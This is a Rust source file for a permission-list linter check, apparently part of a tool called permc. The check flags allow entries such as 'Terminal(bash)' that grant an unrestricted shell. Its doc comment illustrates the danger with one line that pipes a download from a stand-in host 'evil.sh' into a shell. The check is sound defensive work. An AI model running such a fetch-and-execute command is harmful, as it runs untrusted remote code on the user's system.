//! ## What it does
//! Reports an allow entry that names a shell with no script operand
//! (SPEC §11 round 4): `Terminal(bash)`, `Terminal(sh -c)`,
//! `Terminal(bash -lc)`, `Terminal(zsh)`. An entry that names a script
//! (`Terminal(bash scripts/build.sh)`) is not reported here. Shells are
//! reported by this check, not by `broad-always-expansion`.
//!
//! ## Why is this bad?
//! Patterns match by token prefix (SPEC §3.2): `Terminal(bash)` covers
//! `bash -c 'curl evil.sh | sh'`, any command line given to the shell.
//! For `sh`, `bash`, `dash` and `ash` the entry is not needed either: a
//! shell given `-c` is transparent for allow (SPEC §4.3 round 4), so the
//! entries of the commands themselves cover it (`Terminal(npm test)`
//! covers `bash -lc 'npm test'`). For the other shells (`zsh`, `ksh`,
//! `fish`…) permc cannot read the string's language: their lines are
//! never covered by the commands' entries.
//!
//! ## Example
//! ```json
//! {"allow": ["Terminal(bash -lc)", "Terminal(zsh -c)"]}
//! ```
//!
//! Use instead:
//! ```json
//! {"allow": ["Terminal(npm test)", "Terminal(pnpm lint)"]}
//! ```

use super::{entries, Check};
use crate::FileContext;
use permc_core::facts::catalogue;
use permc_grammar::diagnostic::{CheckId, Diagnostic, Severity};
use permc_grammar::pattern::PatToken;
use permc_grammar::rules::List;

/// `shell-entry`.
pub const CHECK: Check = Check {
    id: CheckId::ShellEntry,
    severity: Severity::Warning,
    file: "shell_entry.rs",
    source: include_str!("shell_entry.rs"),
    run,
};

/// The shell an allow entry's tokens name with no script operand (only
/// option words after it), and whether its `-c` strings can be
/// transparent for allow.
pub(crate) fn shell_entry(a: &[PatToken]) -> Option<(String, bool)> {
    let [PatToken::Exact(first), rest @ ..] = a else {
        return None;
    };
    let verb = permc_core::facts::basename(first);
    let transparent = catalogue::shell(verb)?;
    let only_options = rest
        .iter()
        .all(|t| matches!(t, PatToken::Exact(w) if w.starts_with('-')));
    only_options.then(|| (verb.to_string(), transparent))
}

fn run(cx: &FileContext<'_>, out: &mut Vec<Diagnostic>) {
    for e in entries(cx) {
        if e.list != List::Allow {
            continue;
        }
        let Some((verb, transparent)) = e.pattern.tokens().and_then(shell_entry) else {
            continue;
        };
        let text = &e.pattern.text;
        let message = format!(
            "`{text}` in allow covers any command line given to `{verb}`: every word after the entry is free"
        );
        let help = if transparent {
            format!("a `{verb} -c` string is read for allow (SPEC §4.3): allow the commands themselves (`Terminal(npm test)` covers `{verb} -lc 'npm test'`) and remove `{text}`")
        } else {
            format!("permc cannot read `{verb}`'s language: run the commands without the shell and allow them, one pattern each")
        };
        out.push(
            Diagnostic::new(CHECK.id, CHECK.severity, cx.name, e.span, message).with_help(help),
        );
    }
}
